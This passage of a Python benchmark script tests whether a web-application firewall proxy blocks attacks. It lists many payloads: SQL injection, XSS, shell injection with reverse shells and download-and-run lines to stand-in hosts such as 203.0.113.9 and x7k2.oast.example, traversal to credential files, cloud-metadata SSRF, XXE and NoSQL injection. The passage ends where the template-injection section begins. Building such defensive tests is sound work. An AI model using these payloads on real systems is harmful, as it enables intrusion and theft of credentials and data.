"""Blind end-to-end probe through the real `bastion proxy`: a third, unseen set of attacks and legitimate traffic.

Written without looking at the rules or the detectors (only at the harness of bench/eval_proxy.py and
the request builders of bench/eval_variants.py, which it reuses), so its first run is an honest
estimate of what a held-out evaluation would see. Attacks cover each class with several techniques
and placements (path, query names and values, JSON deep and in arrays, form, multipart fields and
file names, XML, GraphQL, cookies and headers) and the encodings real tools use; the legitimate half
is API traffic that a careless filter would refuse (prose about SQL and shells, code in JSON,
rich-text HTML, public URLs, unicode, search and filter syntaxes, schemas, tokens, uploads).

    .venv/bin/python bench/eval_blind.py [--one-client] [--verbose] [--attacks-first]

Prints the share blocked per class (`benign` is the false-positive share) and, with --verbose,
every attack let through and every legitimate request refused.
"""

from __future__ import annotations

import base64

from eval_proxy import Req, check, evaluate
from eval_variants import b64, form, get, gql, hdr, js, multipart, nest, q, raw_json, xml

JWT = ("eyJhbGciOiJSUzI1NiIsInR5cCI6IkpXVCIsImtpZCI6ImsxIn0.eyJpc3MiOiJodHRwczovL2F1dGguZXhhbXBsZS5jb20iLCJzdWIiOiJ1c3Jf"
       "OGYzYSIsImF1ZCI6ImFwaSIsImV4cCI6MTc5OTk5OTk5OSwic2NvcGUiOiJvcmRlcnM6cmVhZCBvcmRlcnM6d3JpdGUifQ.dGhpc19pc19ub3Rf"
       "YV9yZWFsX3NpZ25hdHVyZV9idXRfaXRfbG9va3NfbGlrZV9vbmU")
CHROME = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36"
SAFARI_IOS = ("Mozilla/5.0 (iPhone; CPU iPhone OS 17_4 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) "
              "Version/17.4 Mobile/15E148 Safari/604.1")
OOB = "x7k2.oast.example"  # the attacker's out-of-band collector


def sqli() -> list[Req]:
    s = "sqli"
    return [
        # boolean / blind, MySQL-flavoured
        get(s, "/api/v1/products", {"id": "7' AND 4821=4821 AND 'Qz'='Qz"}),
        get(s, "/api/v1/products", {"id": "7 AND ASCII(SUBSTRING((SELECT password FROM users LIMIT 0,1),1,1))>96"}),
        get(s, "/api/v1/products", {"category": "shoes' AND (SELECT 'x' FROM users WHERE username='admin' AND LENGTH(password)>8)='x"}),
        get(s, "/api/v1/products", {"id": "7'or(1)=(1)#"}),  # no spaces at all
        get(s, "/api/v1/products", {"id": "7'||'1'like'1"}),
        get(s, "/api/v1/products", {"id": "7'/*!50000or*/1=1#"}),
        get(s, "/api/v1/products", {"id": "0'1.e(ascii 1.e(substring(1.e(select password from users limit 1 1.e,1 1.e,1 1.e)1.e)1.e) = 70 or'1'='2"}),
        # time based, every dialect
        get(s, "/api/v1/products", {"id": "7' AND IF(1=1,SLEEP(4),0)-- -"}),
        js(s, "/api/v1/reports", {"range": {"from": "2024-01-01", "to": "2024-02-01'; SELECT pg_sleep(6)--"}}),
        form(s, "/api/v1/login", {"email": "a@b.c'; IF (SELECT COUNT(*) FROM sysusers)>0 WAITFOR DELAY '0:0:6'--", "password": "x"}),
        get(s, "/api/v1/products", {"id": "7 AND 2345=DBMS_PIPE.RECEIVE_MESSAGE(CHR(113)||CHR(98),6)"}),
        get(s, "/api/v1/products", {"id": "7 AND 1=LIKE('ABCDEFG',UPPER(HEX(RANDOMBLOB(300000000/2))))"}),  # SQLite heavy query
        get(s, "/api/v1/products", {"id": "7 OR BENCHMARK(50000000,SHA1(0x41))"}),
        # union based
        get(s, "/api/v1/products", {"id": "-7 UNION ALL SELECT NULL,table_name,NULL FROM information_schema.tables-- -"}),
        get(s, "/api/v1/products", {"id": "-7' UNION SELECT banner,NULL FROM v$version--"}),
        get(s, "/api/v1/products", {"id": "0 union select 1,group_concat(name),3 from sqlite_master where type='table'"}),
        get(s, "/api/v1/products", {"id": "-1 UNION SELECT CHAR(117,115,101,114),password FROM users"}),
        get(s, "/api/v1/products", raw="id=-7%20%55NION%20%53ELECT%201,2,3--"),  # encoded letters
        get(s, "/api/v1/products", raw="id=-7%2527%2520UNION%2520SELECT%2520login%252Cpass%2520FROM%2520accounts--%2520-"),  # double encoded
        get(s, "/api/v1/products", {"id": "0 union select 1,'<?php system($_GET[c]); ?>',3 into outfile '/var/www/html/c.php'"}),
        # error based
        get(s, "/api/v1/products", {"id": "7 AND 1=CONVERT(int,(SELECT TOP 1 name FROM sysobjects WHERE xtype='U'))"}),
        get(s, "/api/v1/products", {"id": "7 AND 1=CAST((SELECT string_agg(usename,',') FROM pg_user) AS int)"}),
        get(s, "/api/v1/products", {"id": "7 AND 1=CTXSYS.DRITHSX.SN(1,(SELECT user FROM dual))"}),
        get(s, "/api/v1/products", {"id": "7 AND GTID_SUBSET(CONCAT(0x7e,(SELECT @@hostname),0x7e),1)"}),
        # stacked
        js(s, "/api/v1/users/search", {"name": "x'; INSERT INTO users(username,role) VALUES('eve','admin');--"}),
        form(s, "/api/v1/feedback", {"rating": "5;UPDATE users SET password='0wned' WHERE id=1;--", "text": "nice"}),
        get(s, "/api/v1/products", {"id": "7;DECLARE @h varchar(99);SET @h='\\\\'+@@version+'.x.oast.example\\a';EXEC master.dbo.xp_fileexist @h;--"}),
        # out of band
        get(s, "/api/v1/products", {"id": "7; EXEC master..xp_dirtree '\\\\x7k2.oast.example\\share'--"}),
        get(s, "/api/v1/products", {"id": "7' AND LOAD_FILE(CONCAT('\\\\\\\\',(SELECT password FROM users LIMIT 1),'.x7k2.oast.example\\\\a'))-- -"}),
        get(s, "/api/v1/products", {"id": "x'||UTL_HTTP.REQUEST('http://x7k2.oast.example/'||(SELECT user FROM dual))||'"}),
        js(s, "/api/v1/exports", {"format": "csv", "query": "1'; COPY (SELECT '') TO PROGRAM 'curl http://x7k2.oast.example/$(id)'--"}),
        get(s, "/api/v1/products", {"id": "1;select $$a$$||pg_read_file($$/etc/passwd$$)--"}),
        # JSON-operator SQL (WAF bypass class)
        get(s, "/api/v1/products", {"id": "7 OR JSON_EXTRACT('{\"id\": 14}', '$.id') = 14"}),
        get(s, "/api/v1/products", {"id": "7' or '{\"b\":2}'::jsonb <@ '{\"a\":1, \"b\":2}'::jsonb--"}),
        get(s, "/api/v1/products", {"id": "7 or json_extract('{\"a\":1}','$.a')=1 union select sqlite_version(),2"}),
        # ORDER BY / column injection
        get(s, "/api/v1/products", {"sort": "price,(SELECT CASE WHEN (SUBSTR(user(),1,1)='r') THEN 1 ELSE 1*(SELECT 1 UNION SELECT 2) END)"}),
        get(s, "/api/v1/products", {"order": "(SELECT 1 FROM pg_sleep(5))"}),
        get(s, "/api/v1/products", {"sort": "name ASC, IF((SELECT SUBSTR(version(),1,1))='8',SLEEP(3),0)"}),
        get(s, "/api/v1/products", raw="fields=id,(select%20password%20from%20users%20limit%201)&page=1"),
        # other placements
        hdr(s, {"Cookie": "sid=3f9a1c; cart_id=991' AND (SELECT 5 FROM (SELECT(SLEEP(5)))k)-- x; lang=en"}),
        hdr(s, {"X-Client-IP": "10.1.1.1' or 1=1 limit 1-- -"}),
        hdr(s, {"Referer": "https://shop.example/products?id=7' UNION SELECT 1,@@version,3-- -"}),
        hdr(s, {"X-Device-Id": "a9f1'; SELECT pg_sleep(7)--"}),
        Req(s, "GET", "/api/v1/users/42'%20AND%20'1'='1/orders", {}),
        Req(s, "GET", "/api/v1/orders/5;SELECT%20pg_sleep(5)", {}),
        multipart(s, "/api/v1/profile", [("display_name", "bob') OR ('x'='x", None, None), ("avatar", b"\x89PNG\r\n", "a.png", "image/png")]),
        xml(s, "/soap/UserService", '<?xml version="1.0"?><soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/"><soap:Body><GetUser><username>admin\' --</username></GetUser></soap:Body></soap:Envelope>', "text/xml"),
        gql(s, '{ product(slug: "mug\' AND 1=2 UNION SELECT credit_card,cvv FROM payments-- ") { id name } }'),
        gql(s, "query Search($f: SearchFilter) { search(filter: $f) { id } }", {"f": {"and": [{"tag": "sale"}, {"name": "x' or sleep(5)#"}]}}),
        js(s, "/api/v1/cart/items", {"ids": [101, 102, "103 AND (SELECT 1 FROM (SELECT SLEEP(5))a)"]}),
        raw_json(s, "/api/v1/login", '{"username": "admin\\u0027 AND SLEEP(5)#", "password": "pw"}'),
        form(s, "/api/v1/login", {"username": "admin'#", "password": "anything"}),
        form(s, "/api/v1/login", {"username": "administrator'/*", "password": "*/or'1'='1"}),
        get(s, "/api/v1/products", {"q": "' HAVING 1=1--"}),
        get(s, "/api/v1/users", {"name": "admin' AND password LIKE 'a%'--"}),
        form(s, "/api/v1/newsletter", {"email": "x'; exec('xp_cmd'+'shell ''ping x7k2.oast.example''')--"}),
        get(s, "/api/v1/products", {"id": "7 AnD 1=1 UnIoN/**/aLl/**/SeLeCt/**/1,2,3"}),
    ]


def xss() -> list[Req]:
    s = "xss"
    svg = '<?xml version="1.0" standalone="no"?><svg xmlns="http://www.w3.org/2000/svg" onload="fetch(\'//x7k2.oast.example/\'+document.cookie)"><rect width="1" height="1"/></svg>'
    polyglot = "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=alert() )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=alert()//>\\x3e"
    return [
        get(s, "/api/v1/search", {"q": "<img src=1 onerror=confirm`1`>"}),
        get(s, "/api/v1/search", {"q": "<svg><animate onbegin=alert(1) attributeName=x dur=1s>"}),
        get(s, "/api/v1/search", {"q": '<svg><a><animate attributeName=href values=javascript:alert(1) /><text x=20 y=20>Click</text></a></svg>'}),
        get(s, "/api/v1/search", {"q": "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>click</maction></math>"}),
        get(s, "/api/v1/search", {"q": '<a href="jav&#x09;ascript:alert(1)">x</a>'}),
        get(s, "/api/v1/search", {"q": '<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)">x</a>'}),
        get(s, "/api/v1/search", {"q": "\"><img src=x onerror=eval(atob('YWxlcnQoZG9jdW1lbnQuY29va2llKQ=='))>"}),
        get(s, "/api/v1/search", {"q": polyglot}),
        get(s, "/api/v1/search", {"q": "<iframe srcdoc=\"&lt;script&gt;parent.alert(1)&lt;/script&gt;\"></iframe>"}),
        get(s, "/api/v1/search", {"q": "<script src=//x7k2.oast.example/h.js></script>"}),
        get(s, "/api/v1/search", {"q": "<x onpointerenter=alert(1)>hover me</x>"}),
        get(s, "/api/v1/search", {"q": "<body onpageshow=alert(1)>"}),
        get(s, "/api/v1/search", {"q": "<img src=x:x onerror=window['al'+'ert'](document.domain)>"}),
        get(s, "/api/v1/search", {"q": "<svg><script>alert&#40;1&#41;</script></svg>"}),
        get(s, "/api/v1/search", {"q": "\";alert(String.fromCharCode(88,83,83));//"}),
        get(s, "/api/v1/search", {"q": "`;fetch(`//x7k2.oast.example?c=${document.cookie}`)//"}),
        get(s, "/api/v1/search", {"q": "{{constructor.constructor('alert(1)')()}}"}),  # AngularJS client-side template
        get(s, "/api/v1/search", {"q": "{{_c.constructor('alert(document.cookie)')()}}"}),  # Vue 2
        get(s, "/api/v1/search", raw="q=%3CIMG%0ASRC%3Dx%0AONERROR%3Dalert(1)%3E"),
        get(s, "/api/v1/search", raw="q=%253Csvg%2520onload%253Dalert(1)%253E"),
        get(s, "/api/v1/search", raw="q=%3Csvg%2Fonload%0C%3Dalert(1)%3E"),
        get(s, "/api/v1/search", {"q": "<svg onload=alert&lpar;1&rpar;>"}),
        get(s, "/api/v1/search", {"q": "<video src=_ onloadstart=alert(1)>"}),
        get(s, "/api/v1/search", {"q": "<xss contenteditable onblur=alert(1)>lose focus!</xss>"}),
        get(s, "/api/v1/search", {"q": "<input type=hidden accesskey=X onclick=alert(1)>"}),
        raw_json(s, "/api/v1/comments", '{"post": 12, "body": "\\u003cimg src=x onerror=alert(1)\\u003e"}'),
        js(s, "/api/v1/comments", {"post": 12, "body": "Great post! [click here](javascript:alert(document.cookie))"}),
        js(s, "/api/v1/comments", {"post": 12, "body": "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></p></noscript>"}),
        js(s, "/api/v1/comments", {"post": 12, "body": "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\"></a></style></svg>"}),
        js(s, "/api/v1/pages", nest(["page", "blocks"], [{"type": "text", "html": "ok"}, {"type": "html", "html": "</textarea><script>new Image().src='//x7k2.oast.example/'+document.cookie</script>"}]), "PUT"),
        js(s, "/api/v1/pages", {"page": {"html": "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">"}}, "PUT"),
        js(s, "/api/v1/pages", {"page": {"html": "<base href=\"//x7k2.oast.example/\">"}}, "PUT"),
        js(s, "/api/v1/pages", {"page": {"html": "<a id=defaultConfig><a id=defaultConfig name=scriptUrl href=\"//x7k2.oast.example/x.js\">"}}, "PUT"),  # DOM clobbering
        js(s, "/api/v1/pages", {"page": {"html": "<form name=settings><input name=cdnBase value=\"https://x7k2.oast.example\"></form><img name=getElementById>"}}, "PUT"),
        js(s, "/api/v1/pages", {"page": {"css": "<style>@import'//x7k2.oast.example/steal.css';</style>"}}, "PUT"),
        gql(s, "mutation U($b: String!) { updateBio(bio: $b) { id } }", {"b": "<img src=x onerror=fetch('//x7k2.oast.example/'+localStorage.token)>"}),
        form(s, "/api/v1/contact", {"name": "Bob", "message": "<details open ontoggle=\"fetch('/api/v1/admin/users').then(r=>r.text()).then(t=>navigator.sendBeacon('//x7k2.oast.example',t))\">"}),
        multipart(s, "/api/v1/uploads", [("file", b"GIF89a", "\"><img src=x onerror=alert(1)>.gif", "image/gif")]),
        multipart(s, "/api/v1/uploads", [("file", svg, "logo.svg", "image/svg+xml")]),
        multipart(s, "/api/v1/uploads", [("file", "<html><body><script>location='//x7k2.oast.example/?'+document.cookie</script></body></html>", "invoice.html", "text/html")]),
        hdr(s, {"Referer": "https://www.google.com/\"><svg onload=alert(1)>"}),
        hdr(s, {"User-Agent": "Mozilla/5.0 <img src=x onerror=alert(1)>"}),
        hdr(s, {"Cookie": "theme=\"><script>alert(1)</script>; sid=aa11"}),
        Req(s, "GET", "/api/v1/profile/%3Csvg%20onload=alert(1)%3E", {}),
        get(s, "/api/v1/search", raw="%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E=1"),  # payload as a parameter name
    ]


def rce() -> list[Req]:
    s = "rce"
    return [
        get(s, "/api/v1/tools/ping", {"host": "8.8.8.8; id"}),
        get(s, "/api/v1/tools/ping", raw="host=8.8.8.8%0Aid"),
        get(s, "/api/v1/tools/ping", {"host": "8.8.8.8$(id)"}),
        get(s, "/api/v1/tools/ping", {"host": "`sleep 5`"}),
        get(s, "/api/v1/tools/ping", {"host": "8.8.8.8 | sleep 10 #"}),
        get(s, "/api/v1/tools/ping", {"host": "x; ping -c 5 x7k2.oast.example"}),
        get(s, "/api/v1/tools/ping", {"host": "x & nslookup $(whoami).x7k2.oast.example &"}),
        get(s, "/api/v1/tools/ping", {"host": "x || curl -fsSL http://203.0.113.9/i.sh|bash"}),
        get(s, "/api/v1/tools/ping", {"host": "x;cat$IFS/etc/passwd"}),
        get(s, "/api/v1/tools/ping", {"host": "x;{cat,/etc/passwd}"}),
        get(s, "/api/v1/tools/ping", {"host": "x;c''at /e't'c/pas's'wd"}),
        get(s, "/api/v1/tools/ping", {"host": "x;/???/c?t /???/p??s??"}),
        get(s, "/api/v1/tools/ping", {"host": "x; echo Y2F0IC9ldGMvcGFzc3dk|base64 -d|sh"}),
        get(s, "/api/v1/tools/ping", {"host": "x$(printf '\\x69\\x64')"}),
        get(s, "/api/v1/tools/ping", {"host": "a;w\\ho\\am\\i"}),
        get(s, "/api/v1/tools/ping", {"host": "x; cat ${HOME:0:1}etc${HOME:0:1}passwd"}),
        get(s, "/api/v1/tools/ping", {"host": "x;sleep${IFS}5;"}),
        js(s, "/api/v1/tools/dns", {"domain": "example.com; rm -f /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 203.0.113.9 4444 >/tmp/f"}),
        js(s, "/api/v1/tools/dns", {"domain": "example.com;perl -e 'use Socket;$i=\"203.0.113.9\";$p=4444;socket(S,PF_INET,SOCK_STREAM,getprotobyname(\"tcp\"));connect(S,sockaddr_in($p,inet_aton($i)))'"}),
        js(s, "/api/v1/tools/dns", nest(["job", "args"], ["-x", "example.com && python3 -c 'import pty;pty.spawn(\"/bin/bash\")'"])),
        js(s, "/api/v1/repos/import", {"url": "--upload-pack=touch /tmp/pwned", "branch": "main"}),  # argument injection
        form(s, "/api/v1/convert", {"file": "report.pdf\n/bin/busybox telnetd -p 9999 -l /bin/sh", "to": "png"}),
        multipart(s, "/api/v1/uploads", [("file", b"\xff\xd8\xff\xe0", "photo.jpg;curl 203.0.113.9|sh;.jpg", "image/jpeg")]),
        # Windows / PowerShell
        get(s, "/api/v1/tools/ping", {"host": "127.0.0.1 & whoami /all"}),
        get(s, "/api/v1/tools/ping", {"host": "127.0.0.1 | type C:\\Windows\\win.ini"}),
        get(s, "/api/v1/tools/ping", {"host": "127.0.0.1 & ping -n 10 127.0.0.1 &"}),
        get(s, "/api/v1/tools/ping", {"host": "x; powershell -nop -w hidden -c \"IEX(New-Object Net.WebClient).DownloadString('http://203.0.113.9/a.ps1')\""}),
        get(s, "/api/v1/tools/ping", {"host": "x & certutil -urlcache -split -f http://203.0.113.9/a.exe %TEMP%\\a.exe"}),
        get(s, "/api/v1/tools/ping", {"host": "x | powershell Invoke-WebRequest -Uri http://x7k2.oast.example -Method POST -Body (Get-Content C:\\inetpub\\wwwroot\\web.config)"}),
        form(s, "/api/v1/tools/trace", {"target": "x && cmd /c \"net user backdoor P@ss123 /add\""}),
        form(s, "/api/v1/tools/trace", {"target": "x & ^w^h^o^a^m^i"}),
        form(s, "/api/v1/tools/trace", {"target": "x | mshta http://203.0.113.9/x.hta"}),
        form(s, "/api/v1/tools/trace", {"target": "x & %COMSPEC% /c dir C:\\"}),
        form(s, "/api/v1/tools/trace", {"target": "x; $(nslookup -q=txt run.x7k2.oast.example)"}),
        form(s, "/api/v1/tools/trace", {"target": "x|| pwsh -EncodedCommand SQBuAHYAbwBrAGUALQBXAGUAYgBSAGUAcQB1AGUAcwB0AA=="}),
        # shellshock and header placements
        hdr(s, {"User-Agent": "() { :; }; /bin/bash -c 'cat /etc/passwd'"}),
        hdr(s, {"Referer": "() { ignored; }; echo; /usr/bin/id"}),
        hdr(s, {"X-Forwarded-For": "127.0.0.1;wget http://203.0.113.9/m -O- | sh"}),
        hdr(s, {"Cookie": "debug=1; lang=en`id`"}),
        gql(s, "mutation { runDiagnostics(host: \"10.0.0.1; curl http://x7k2.oast.example/$(hostname)\") { output } }"),
        xml(s, "/api/v1/devices/config", "<config><ntp>pool.ntp.org;reboot</ntp><hostname>$(telnetd -l /bin/sh -p 2323)</hostname></config>"),
    ]


def traversal() -> list[Req]:
    s = "traversal"
    return [
        Req(s, "GET", "/api/v1/files/..%2F..%2F..%2Fetc%2Fpasswd", {}),
        get(s, "/api/v1/download", {"file": "../../../../../../etc/passwd"}),
        get(s, "/api/v1/download", {"file": "..././..././..././etc/passwd"}),
        get(s, "/api/v1/download", raw="file=%2e%2e/%2e%2e/%2e%2e/etc/hosts"),
        get(s, "/api/v1/download", raw="file=..%5c..%5c..%5cwindows%5csystem32%5cdrivers%5cetc%5chosts"),
        get(s, "/api/v1/download", {"file": "..\\..\\..\\..\\inetpub\\wwwroot\\web.config"}),
        get(s, "/api/v1/download", {"file": "C:\\Windows\\System32\\config\\SAM"}),
        get(s, "/api/v1/page", {"template": "php://filter/read=string.rot13/resource=config.php"}),
        get(s, "/api/v1/page", {"template": "php://filter/convert.iconv.UTF8.CSISO2022KR|convert.base64-encode/resource=/etc/passwd"}),
        get(s, "/api/v1/page", {"template": "data://text/plain;base64,PD9waHAgc3lzdGVtKCRfR0VUWydjJ10pOyA/Pg=="}),
        get(s, "/api/v1/page", {"template": "expect://id"}),
        get(s, "/api/v1/page", {"template": "zip://uploads/avatar.jpg#shell.php"}),
        get(s, "/api/v1/page", {"template": "phar://./uploads/x.jpg/test.txt"}),
        get(s, "/api/v1/page", {"template": "/proc/self/cmdline"}),
        get(s, "/api/v1/page", {"template": "/proc/1/environ"}),
        get(s, "/api/v1/page", {"template": "/var/log/nginx/access.log"}),
        get(s, "/api/v1/download", raw="file=..%u2216..%u2216..%u2216etc%u2216passwd"),
        get(s, "/api/v1/download", raw="file=%252e%252e%252f%252e%252e%252f%252e%252e%252fetc%252fpasswd"),
        get(s, "/api/v1/download", raw="file=..%c1%9c..%c1%9c..%c1%9cwindows/win.ini"),
        Req(s, "GET", "/api/v1/..;/..;/WEB-INF/web.xml", {}),
        get(s, "/api/v1/download", {"file": "....////....////....////etc/passwd"}),
        Req(s, "GET", "/static/..%2f..%2f..%2f..%2froot/.ssh/id_rsa", {}),
        js(s, "/api/v1/reports/render", {"template": {"path": "../../../../home/app/.aws/credentials"}}),
        js(s, "/api/v1/reports/render", {"attachments": ["summary.pdf", "../../../../../proc/self/environ"]}),
        multipart(s, "/api/v1/uploads", [("file", b"<?php echo 1; ?>", "../../../var/www/html/shell.php", "application/octet-stream")]),
        form(s, "/api/v1/themes", {"layout": "..%2F..%2F..%2F..%2Fetc%2Fshadow"}),  # encoded once more by the form
        get(s, "/api/v1/download", {"file": "file:///C:/Windows/win.ini"}),
        get(s, "/api/v1/download", {"file": "/etc/passwd\u0000.jpg"}),
        xml(s, "/api/v1/import", "<import><source>../../../../../etc/group</source></import>"),
        hdr(s, {"X-Original-URL": "/../../../../etc/passwd"}),
        Req(s, "GET", "/api/v1/assets/%2e%2e%2f%2e%2e%2f%2e%2e%2fapp%2f.env", {}),
    ]


def ssrf() -> list[Req]:
    s = "ssrf"
    f = "/api/v1/fetch"
    return [
        Req(s, "PUT", "/api/v1/proxy?url=" + q("http://169.254.169.254/latest/api/token"), {"X-aws-ec2-metadata-token-ttl-seconds": "21600"}),
        get(s, f, {"url": "http://169.254.169.254/latest/user-data"}),
        get(s, f, {"url": "http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token"}),
        get(s, f, {"url": "http://metadata/computeMetadata/v1/project/project-id"}),
        get(s, f, {"url": "http://169.254.169.254/metadata/identity/oauth2/token?api-version=2018-02-01&resource=https://management.azure.com/"}),
        get(s, f, {"url": "http://100.100.100.200/latest/meta-data/ram/security-credentials/"}),
        get(s, f, {"url": "http://169.254.170.2/v2/credentials/3f1a2b"}),
        get(s, f, {"url": "http://192.0.0.192/latest/attributes/"}),
        get(s, f, {"url": "http://2852039166/latest/meta-data/"}),
        get(s, f, {"url": "http://0251.0376.0251.0376/latest/meta-data/"}),
        get(s, f, {"url": "http://0xa9fea9fe/latest/meta-data/"}),
        get(s, f, {"url": "http://169.254.43518/latest/meta-data/"}),
        get(s, f, {"url": "http://[::ffff:169.254.169.254]/latest/meta-data/"}),
        get(s, f, {"url": "http://[::ffff:7f00:1]:8080/admin"}),
        get(s, f, {"url": "http://[fd00:ec2::254]/latest/meta-data/"}),
        get(s, f, {"url": "http://127.1/admin"}),
        get(s, f, {"url": "http://0/server-status"}),
        get(s, f, {"url": "http://127.0.0.1.nip.io:8080/actuator/env"}),
        get(s, f, {"url": "http://localtest.me/admin"}),
        get(s, f, {"url": "http://7f000001.a9fea9fe.rbndr.us/latest/meta-data/"}),
        get(s, f, {"url": "gopher://127.0.0.1:6379/_%2A1%0D%0A%248%0D%0Aflushall%0D%0A"}),
        get(s, f, {"url": "dict://127.0.0.1:6379/CONFIG%20SET%20dir%20/var/www/html"}),
        get(s, f, {"url": "file:///etc/passwd"}),
        get(s, f, {"url": "http://evil.example@169.254.169.254/latest/meta-data/"}),
        get(s, f, {"url": "http://localhost:2375/containers/json"}),
        get(s, f, {"url": "https://kubernetes.default.svc/api/v1/namespaces/kube-system/secrets"}),
        get(s, f, {"url": "http://①②⑦.⓪.⓪.①/admin"}),
        get(s, f, {"url": "jar:http://x7k2.oast.example/x.jar!/"}),
        js(s, "/api/v1/webhooks", {"name": "deploy", "callback_url": "http://169.254.169.254/latest/meta-data/iam/security-credentials/", "events": ["push"]}),
        js(s, "/api/v1/profile", {"avatar_url": "http://[0:0:0:0:0:ffff:127.0.0.1]:9200/_cat/indices"}, "PATCH"),
        form(s, "/api/v1/import", {"feed": "http://10.0.0.1:8500/v1/kv/?recurse"}),
        xml(s, "/api/v1/import", "<feed><source>http://169.254.169.254/computeMetadata/v1beta1/instance/attributes/ssh-keys</source></feed>"),
        gql(s, "mutation { importFromUrl(url: \"http://0x7f.0x0.0x0.0x1:6379/\") { id } }"),
    ]


def xxe() -> list[Req]:
    s = "xxe"
    svg = '<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/hostname">]><svg xmlns="http://www.w3.org/2000/svg"><text>&x;</text></svg>'
    utf16 = '<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE r [<!ENTITY e SYSTEM "file:///etc/passwd">]><r>&e;</r>'
    return [
        xml(s, "/api/v1/import", '<?xml version="1.0" encoding="UTF-8"?><!DOCTYPE order [<!ENTITY sku SYSTEM "file:///etc/passwd">]><order><sku>&sku;</sku></order>'),
        xml(s, "/api/v1/import", '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY ping SYSTEM "http://x7k2.oast.example/xxe">]><r>&ping;</r>'),
        xml(s, "/api/v1/import", '<?xml version="1.0"?><!DOCTYPE d [<!ENTITY % file SYSTEM "file:///etc/hostname"><!ENTITY % dtd SYSTEM "http://x7k2.oast.example/e.dtd">%dtd;%send;]><d/>'),
        xml(s, "/api/v1/import", '<order xmlns:xi="http://www.w3.org/2001/XInclude"><sku><xi:include parse="text" href="file:///etc/passwd"/></sku></order>'),
        xml(s, "/soap/OrderService", '<?xml version="1.0"?><!DOCTYPE soap:Envelope [<!ENTITY x SYSTEM "file:///c:/windows/win.ini">]><soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/"><soap:Body><GetOrder><id>&x;</id></GetOrder></soap:Body></soap:Envelope>', "text/xml"),
        multipart(s, "/api/v1/uploads", [("file", svg, "badge.svg", "image/svg+xml")]),
        xml(s, "/api/v1/import", '<?xml version="1.0"?><!DOCTYPE r PUBLIC "-//A//B//EN" "http://x7k2.oast.example/p.dtd"><r>1</r>'),
        xml(s, "/api/v1/import", '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY s SYSTEM "php://filter/convert.base64-encode/resource=/var/www/config.php">]><r>&s;</r>'),
        xml(s, "/api/v1/import", '<?xml version="1.0"?><!DOCTYPE m [<!ENTITY % local SYSTEM "file:///usr/share/yelp/dtd/docbookx.dtd"><!ENTITY % ISOamso \'<!ENTITY &#x25; f SYSTEM "file:///etc/passwd"><!ENTITY &#x25; e "<!ENTITY &#x26;#x25; err SYSTEM &#x27;file:///nope/&#x25;f;&#x27;>">&#x25;e;&#x25;err;\'>%local;]><m/>'),
        Req(s, "POST", "/api/v1/import", {"Content-Type": "application/xml; charset=utf-16"}, utf16.encode("utf-16")),
        xml(s, "/api/v1/feeds", '<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY t SYSTEM "netdoc:///etc/passwd">]><rss version="2.0"><channel><title>&t;</title></channel></rss>', "application/rss+xml"),
        xml(s, "/api/v1/import", '<!DOCTYPE a [<!ENTITY b "bbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbb"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;"><!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;"><!ENTITY e "&d;&d;&d;&d;&d;&d;&d;&d;&d;&d;">]><a>&e;</a>'),
        js(s, "/api/v1/documents", {"format": "xml", "content": '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY y SYSTEM "file:///proc/self/environ">]><x>&y;</x>'}),
        form(s, "/api/v1/saml/acs", {"SAMLResponse": b64('<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "http://x7k2.oast.example/saml">]><samlp:Response xmlns:samlp="urn:oasis:names:tc:SAML:2.0:protocol">&x;</samlp:Response>')}),
    ]


def nosqli() -> list[Req]:
    s = "nosqli"
    return [
        js(s, "/api/v1/auth/login", {"username": "admin", "password": {"$gt": ""}}),
        js(s, "/api/v1/auth/login", {"username": {"$regex": "^adm"}, "password": {"$ne": "1"}}),
        get(s, "/api/v1/users", raw="username[$regex]=^a.*&password[$ne]=1"),
        get(s, "/api/v1/users", raw="role[$nin][]=user&active=true"),
        js(s, "/api/v1/users/find", {"$where": "this.password.match(/^a/) && sleep(2000)"}),
        get(s, "/api/v1/users", {"name": "';return true;var x='"}),
        get(s, "/api/v1/users", {"name": "'; while(true){}; var y='"}),
        js(s, "/api/v1/users/find", {"filter": {"$expr": {"$function": {"body": "function(){sleep(5000);return true}", "args": [], "lang": "js"}}}}),
        js(s, "/api/v1/analytics", {"pipeline": [{"$match": {}}, {"$lookup": {"from": "users", "localField": "owner", "foreignField": "_id", "as": "u"}}, {"$project": {"u.password": 1}}]}),
        form(s, "/api/v1/auth/login", {"email": "admin@shop.example", "password[$exists]": "true"}),
        get(s, "/api/v1/orders", raw="user_id[$gt]=&status=paid"),
        raw_json(s, "/api/v1/auth/login", '{"username": "admin", "password": {"\\u0024ne": null}}'),
        form(s, "/api/v1/auth/reset", {"token[$regex]": ".{24}", "email": "admin@shop.example"}),
        js(s, "/api/v1/auth/login", {"username": "admin", "password": {"$in": [None, "", "admin", "password"]}, "otp": {"$exists": False}}),
        get(s, "/api/v1/items", {"filter": '{"price": {"$where": "function(){ return db.getCollectionNames() }"}}'}),
    ]


def ssti() -> list[Req]:
    s = "ssti"
